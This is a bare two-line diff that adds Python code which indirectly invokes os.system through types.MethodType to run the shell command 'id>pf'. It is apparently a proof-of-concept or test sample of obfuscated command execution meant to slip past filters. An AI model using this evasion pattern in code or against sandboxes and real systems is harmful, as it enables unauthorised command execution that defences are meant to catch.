@@ -1,0 +1,2 @@
+import os, types
+types.MethodType(os.system, "id>pf")()
